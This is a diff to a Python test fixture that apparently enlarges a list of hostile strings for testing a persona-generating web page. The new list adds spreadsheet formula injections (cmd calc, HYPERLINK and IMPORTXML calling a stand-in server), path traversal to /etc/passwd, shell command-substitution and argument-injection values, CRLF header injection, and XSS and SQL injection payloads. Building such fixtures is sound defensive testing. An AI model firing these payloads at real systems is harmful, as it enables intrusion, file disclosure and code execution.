@@ -1,4 +1,4 @@
-"""Sixty strings that mean harm to a web page, and a persona and a review that carry them everywhere.
+"""A hundred strings that mean harm to a web page, and a persona and a review that carry them everywhere.
 
 ``RAN`` stands for a script's trace (it sets the page's title) and ``CALL`` for the address of a server that counts.
 """
@@ -90,7 +90,7 @@ REST = (
     f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     f"<img src=x onerror\x00={RUN}>",
     f"<scri\x00pt>{RUN}</script>",
-    f"\x3cscript\x3e{RUN}\x3c/script\x3e",
+    f"<ScRiPt/x>{RUN}</ScRiPt/x>",
     f"&lt;script&gt;{RUN}&lt;/script&gt;",
     f"&#60;script&#62;{RUN}&#60;/script&#62;",
     f"&#x3cscript&#x3e{RUN}",
@@ -108,6 +108,55 @@ REST = (
     "مرحبا <b>بالعالم</b> שלום \u200f\u200e",
 )  # fmt: skip
 HOSTILE = LIVE + REST
+
+FIELDS = (
+    # formulas of spreadsheets
+    '=HYPERLINK("CALL/formula","open")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    '\r=IMPORTXML("CALL/xml","//a")',
+    "＝1＋1",
+    # names of files and places
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "....//....//etc/passwd",
+    "/etc/passwd",
+    "C:\\Windows\\System32\\con",
+    "file:///etc/passwd",
+    "CON.csv",
+    "nul\x00.csv",
+    "a/b/../c",
+    "$(touch ran) `touch ran` ; touch ran | touch ran && touch ran",
+    "--help",
+    "-o /tmp/ran",
+    # addresses and selectors that a script might build
+    "#evidence') , body { display: none } [x='",
+    "?at=goals%5B0%5D#<img src=x onerror=document.title='RAN'>",
+    "__proto__",
+    "constructor",
+    "toString",
+    "\\u003cscript\\u003edocument.title='RAN'\\u003c/script\\u003e",
+    "${document.title='RAN'}",
+    "</textarea><script>document.title='RAN'</script>",
+    "</option></select><img src=x onerror=document.title='RAN'>",
+    "</pre></template><img src=x onerror=document.title='RAN'>",
+    '\ndata: {"line": "<img src=x onerror=document.title=\'RAN\'>"}\n\nevent: ended\ndata: {"code": 0}\n\n',
+    "\r\nSet-Cookie: persona-gen=stolen\r\n\r\n<script>document.title='RAN'</script>",
+    "expression(document.title='RAN'); behavior: url(CALL/behaviour); -moz-binding: url(CALL/binding)",
+    "<svg><style><img src=x onerror=document.title='RAN'></style></svg>",
+    "<noscript><p title=\"</noscript><img src=x onerror=document.title='RAN'>\">",
+    # letters
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea e\u0301\u0327\u0335\u0336",
+    "ﷺ\u202e\u2066" + "a\u0489" * 40,
+    "\uff1cscript\uff1edocument.title=\uff07RAN\uff07\uff1c/script\uff1e",
+    "'; DROP TABLE personas; --",
+    "<a href=\"\tjava\nscript:document.title='RAN'\" target=_blank>go</a>",
+)
+"""What means harm where a form, a table, an address or the name of a file takes it."""
+HUNDRED = HOSTILE + FIELDS
 
 
 def aimed(text: str, call: str) -> str:
